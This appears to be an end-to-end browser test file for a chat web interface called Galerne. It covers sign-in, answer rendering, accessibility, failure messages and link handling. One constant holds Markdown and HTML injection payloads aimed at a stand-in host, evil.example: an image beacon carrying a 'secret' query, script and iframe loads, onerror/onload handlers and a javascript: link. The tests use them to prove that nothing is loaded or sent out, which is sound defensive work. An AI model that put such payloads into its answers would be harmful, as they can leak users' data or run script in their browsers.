/** States that a real model cannot be asked for, on a stand-in server. */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, before, describe, test } from "node:test";

import {
  DESKTOP,
  PHONE,
  DIST,
  FOREIGN_HOST,
  ask,
  checkAccessibility,
  checkFits,
  field,
  launch,
  openPage,
  shoot,
} from "./browser.mjs";
import { startFakeServer } from "./fake-server.mjs";

/** Everything here answers within a second or two. */
const HANG_MS = 30_000;
const FAILED_REQUEST = /^Failed to load resource/u;
const HOSTILE = [
  "![pixel](https://evil.example/leak?q=secret)",
  '<img src="https://evil.example/x" onerror="alert(1)">',
  "<script src=https://evil.example/s.js></script>",
  "[run](javascript:alert(1)) [link](https://evil.example/page)",
  '<svg onload="alert(1)"></svg> <iframe src=https://evil.example></iframe>',
  '<p style="background:url(https://evil.example/b)">styled</p>',
].join("\n\n");
const EXFILTRATION = JSON.parse(
  readFileSync(new URL("../src/markdown/exfiltration.json", import.meta.url), "utf8"),
);
const RICH = [
  "# Title",
  "Text with `code`, **bold** and *italic*.",
  "1. one\n2. two",
  "```python\nprint('a line that is much longer than a phone is wide, so that it scrolls sideways')\n```",
  "| name | value |\n|:--|--:|\n| a | 1 |",
  "> quoted",
].join("\n\n");

let browser;
let server;
let visitor;

before(async () => {
  server = await startFakeServer({ dist: DIST, models: ["first-model", "second-model"] });
  browser = await launch();
  visitor = await openPage(browser, server.origin, { expected: [FAILED_REQUEST] });
  visitor.page.setDefaultTimeout(HANG_MS);
});

after(async () => {
  await browser?.close();
  await server?.close();
});

async function noteAfter(question) {
  const { page } = visitor;
  await ask(page, question);
  const note = page.locator(".turn:last-child [role=alert]");
  await note.waitFor();
  return note.innerText();
}

describe("without a session", () => {
  test("the page says how to get in, by keyboard too", async () => {
    const { page } = visitor;
    await page.goto(server.origin);
    await page.getByRole("heading", { name: "Sign in" }).waitFor();
    await checkAccessibility(page, "sign-in");
    await shoot(page, "sign-in-en");
    await page.keyboard.press("Tab");
    assert.equal(await page.evaluate(() => document.activeElement.className), "skip");
    await page.getByLabel("Link or token").press("Enter");
    await page.getByText("Paste a link or a token first.").waitFor();
    await page.getByLabel("Link or token").fill(server.link);
    await page.getByLabel("Link or token").press("Enter");
    await field(page).waitFor();
  });

  test("a link pasted into the open tab is used and refused once spent", async () => {
    const other = await openPage(browser, server.origin);
    await other.page.goto(server.origin);
    await other.page.getByRole("heading", { name: "Sign in" }).waitFor();
    await other.page.goto(`${server.origin}/#token=spent`);
    await other.page.getByRole("alert").waitFor();
    assert.equal(other.page.url(), `${server.origin}/`);
    assert.deepEqual(other.problems, []);
    await other.context.close();
  });
});

describe("an answer", () => {
  test("of hostile Markdown loads, runs and styles nothing", async () => {
    const { page } = visitor;
    await ask(page, `say ${HOSTILE}`);
    await page.locator(".turn:last-child .prov").waitFor();
    const turn = page.locator(".turn:last-child .answer");
    assert.match(await turn.innerText(), /\[image · pixel · evil\.example\]/u);
    assert.equal(await turn.locator("img,script,iframe,[onerror],[onload],[style]").count(), 0);
    const links = await turn.locator("a").evaluateAll((found) => found.map((a) => [a.href, a.rel]));
    assert.deepEqual(links, [["https://evil.example/page", "noopener noreferrer"]]);
    assert.match(await turn.innerText(), /link \(evil\.example\)/u);
  });

  test("of every way to carry words out reaches nobody", async () => {
    const { page } = visitor;
    const asked = [];
    const note = (request) => asked.push(request.url());
    page.on("request", note);
    await ask(page, `say ${EXFILTRATION.map(([, markdown]) => markdown).join("\n\n")}`);
    await page.locator(".turn:last-child .prov").waitFor();
    const turn = page.locator(".turn:last-child .answer");
    assert.match(await turn.innerText(), /evil\.example/u);
    const loading = "img,image,picture,video,audio,iframe,object,embed,link,meta,base,form,style,script";
    assert.equal(await turn.locator(loading).count(), 0);
    page.off("request", note);
    assert.ok(asked.length > 0, "the page was not watched");
    assert.deepEqual(asked.filter((url) => /evil|SECRET/u.test(url)), []);
    assert.deepEqual(visitor.problems, []);
  });

  test("with every kind of block is accessible and fits a phone", async () => {
    const { page } = visitor;
    await ask(page, `say ${RICH}`);
    await page.locator(".turn:last-child .prov").waitFor();
    await checkAccessibility(page, "a rich answer");
    await page.setViewportSize(PHONE);
    await checkFits(page, "a rich answer");
    await page.locator(".turn:last-child pre").scrollIntoViewIfNeeded();
    await page.getByRole("button", { name: "More below" }).waitFor({ state: "hidden" });
    await shoot(page, "rich-en-390");
    await page.setViewportSize(DESKTOP);
    await shoot(page, "rich-en-1440");
  });

  test("explains its figures on demand", async () => {
    const { page } = visitor;
    await page
      .locator(".turn:last-child")
      .getByRole("button", { name: /figures/u })
      .click();
    const dialog = page.getByRole("dialog");
    assert.match(await dialog.innerText(), /33\s*g\s*CO2e\/kWh, 2022/u);
    await checkAccessibility(page, "the details of the figures");
    await shoot(page, "details-en-1440");
    await page.keyboard.press("Escape");
    await dialog.waitFor({ state: "hidden" });
  });

  test("stands at the top when it begins, and nothing scrolls afterwards", async () => {
    const { page } = visitor;
    await ask(page, "long");
    const scroller = page.locator(".scroll");
    await page.locator(".turn:last-child .block").waitFor();
    const start = await scroller.evaluate(({ scrollTop }) => scrollTop);
    const top = await page.locator(".turn:last-child").evaluate((turn) => {
      const view = turn.closest(".scroll").getBoundingClientRect();
      return turn.getBoundingClientRect().top - view.top;
    });
    assert.ok(top >= 0 && top <= 48, `the question is ${top} px below the top`);
    await page.locator(".turn:last-child .prov").waitFor();
    assert.equal(await scroller.evaluate(({ scrollTop }) => scrollTop), start);
  });

  test("offers what is below the fold, and follows only when asked", async () => {
    const { page } = visitor;
    await page.setViewportSize({ width: 390, height: 420 });
    await ask(page, "long");
    await page.getByRole("button", { name: "More below" }).click();
    const line = page.locator(".turn:last-child .prov");
    await line.waitFor();
    const isVisible = await line.evaluate((element) => {
      const view = element.closest(".scroll").getBoundingClientRect();
      return element.getBoundingClientRect().bottom <= view.bottom + 1;
    });
    assert.ok(isVisible, "the end of the answer is in view");
    await page.setViewportSize(DESKTOP);
  });

  test("is announced by its start and its end, not by its text", async () => {
    const { page } = visitor;
    await page.evaluate(() => {
      window.said = [];
      const status = document.querySelector("[role=status]");
      const note = () => window.said.push(status.textContent);
      new MutationObserver(note).observe(status, { childList: true, subtree: true });
    });
    await ask(page, "long");
    await page.waitForFunction(() => window.said.some((text) => text.includes("complete")));
    const said = await page.evaluate(() => window.said.filter((text) => text !== ""));
    assert.deepEqual(said, ["Answer started", "Answer complete, 84 tokens"]);
    assert.equal(await page.locator(".answer [aria-live]").count(), 0);
  });
});

describe("a failure", () => {
  test("in the middle of an answer keeps the text and offers to try again", async () => {
    const { page } = visitor;
    const note = await noteAfter("fail");
    assert.match(note, /model failed.*is kept.*engine\.failed/su);
    assert.match(await page.locator(".turn:last-child .block").innerText(), /^One two three/u);
    await checkAccessibility(page, "a broken answer");
    await shoot(page, "failed-en-1440");
  });

  test("with a known code has a text of its own", async () => {
    assert.match(
      await noteAfter("too long"),
      /longer than this model can read.*context\.too_long/su,
    );
  });

  test("with an unknown code shows the server's words", async () => {
    assert.match(
      await noteAfter("unknown code"),
      /The server says tray\.empty.*Fill the tray.*tray\.empty/su,
    );
  });

  test("of the address says so and offers a way on", async () => {
    const { page } = visitor;
    const address = page.url();
    await page.goto(`${server.origin}/c/conv_${"0".repeat(32)}`);
    await page.getByRole("heading", { name: "No conversation at this address" }).waitFor();
    await checkAccessibility(page, "an unknown conversation");
    await page.goto(address);
    await page.locator(".turn").first().waitFor();
  });
});

test("a keystroke renders no turn", async () => {
  const { page } = visitor;
  await page.evaluate(async () => {
    window.changes = 0;
    const options = { childList: true, subtree: true, attributes: true, characterData: true };
    const count = (records) => (window.changes += records.length);
    new MutationObserver(count).observe(document.querySelector(".thread"), options);
    // A page that was loaded just before still draws the last of its turns.
    do {
      window.changes = 0;
      await new Promise((resolve) => setTimeout(resolve, 500));
    } while (window.changes > 0);
  });
  await field(page).pressSequentially("typing");
  assert.equal(await page.evaluate(() => window.changes), 0);
  await field(page).fill("");
});

test("a link of an answer shows where it leads and asks first", async () => {
  const { page } = visitor;
  await ask(page, "say [the law](https://www.example.org/a?b=c#d)");
  await page.locator(".turn:last-child .prov").waitFor();
  const link = page.locator(".turn:last-child .block a");
  for (const press of [() => link.click(), () => link.click({ button: "middle" })]) {
    await press();
    const dialog = page.getByRole("dialog", { name: "Leave Galerne?" });
    await dialog.waitFor();
    assert.match(await dialog.innerText(), /https:\/\/www\.example\.org\/a\?b=c#d/u);
    const open = dialog.getByRole("link", { name: "Open in a new tab" });
    assert.equal(await open.getAttribute("rel"), "noopener noreferrer");
    await checkAccessibility(page, "a link that asks");
    await page.keyboard.press("Escape");
    await dialog.waitFor({ state: "detached" });
  }
});

test("a model is chosen from the list", async () => {
  const { page } = visitor;
  await page.getByRole("button", { name: /first-model/u }).click();
  await checkAccessibility(page, "the list of models");
  await page.getByRole("option", { name: "second-model" }).click();
  await ask(page, "say hi");
  await page.locator(".turn:last-child .prov").waitFor();
  assert.match(await page.locator(".turn:last-child h3").innerText(), /second-model/u);
});

test("Shift+Enter starts a new line, Enter while composing sends nothing", async () => {
  const { page } = visitor;
  const turns = await page.locator(".turn").count();
  await field(page).fill("one");
  await field(page).press("Shift+Enter");
  await field(page).evaluate((element) => {
    const init = { key: "Enter", bubbles: true, cancelable: true, isComposing: true };
    element.dispatchEvent(new KeyboardEvent("keydown", init));
  });
  assert.equal(await field(page).inputValue(), "one\n");
  assert.equal(await page.locator(".turn").count(), turns);
});

test("with forced colours and reduced motion the page still works", async () => {
  const { page } = visitor;
  await page.emulateMedia({ forcedColors: "active", reducedMotion: "reduce" });
  await shoot(page, "forced-colours-en");
  await page.emulateMedia({ forcedColors: "none", reducedMotion: "no-preference" });
});

test("a server without a model says how to install one", async () => {
  const bare = await startFakeServer({ dist: DIST, models: [] });
  const { page, context, problems } = await openPage(browser, bare.origin, {
    expected: [FAILED_REQUEST],
  });
  await page.goto(bare.link);
  await page.getByText("galerne model import").waitFor();
  await checkAccessibility(page, "no model");
  assert.deepEqual(problems, []);
  await context.close();
  await bare.close();
});

test("on a plain network address the page copies, and says when the network is gone", async () => {
  const foreign = await startFakeServer({ dist: DIST });
  const origin = `http://${FOREIGN_HOST}:${new URL(foreign.origin).port}`;
  const { page, context, problems } = await openPage(browser, origin, {
    expected: [FAILED_REQUEST],
  });
  await page.goto(foreign.link.replace(foreign.origin, origin));
  await field(page).waitFor();
  assert.equal(await page.evaluate(() => window.isSecureContext), false);
  await ask(page, "say copied words");
  await page.getByRole("button", { name: "Copy the answer" }).click();
  await page.getByRole("button", { name: "Copied", exact: true }).waitFor();
  await field(page).focus();
  await page.keyboard.press("Control+V");
  assert.equal(await field(page).inputValue(), "copied words");
  await context.setOffline(true);
  await page.getByText("You are offline.").waitFor();
  await checkAccessibility(page, "offline");
  await context.setOffline(false);
  await page.getByText("You are offline.").waitFor({ state: "detached" });
  assert.deepEqual(problems, []);
  await context.close();
  await foreign.close();
});

test("a violation of the policy would be noticed", async () => {
  const { page, context, problems } = await openPage(browser, server.origin);
  await page.goto(server.origin);
  await page.evaluate(() => document.body.setAttribute("style", "color: red"));
  await page.evaluate(() => fetch("https://elsewhere.example/").catch(() => undefined));
  const expected = ["policy: style-src-attr", "policy: connect-src", "console: "];
  await page.waitForFunction(() => true);
  for (const start of expected) {
    assert.ok(
      problems.some((problem) => problem.startsWith(start)),
      `${start} in ${problems}`,
    );
  }
  await context.close();
});

test("the page broke no rule and talked to nobody else", () => {
  assert.deepEqual(visitor.problems, []);
});
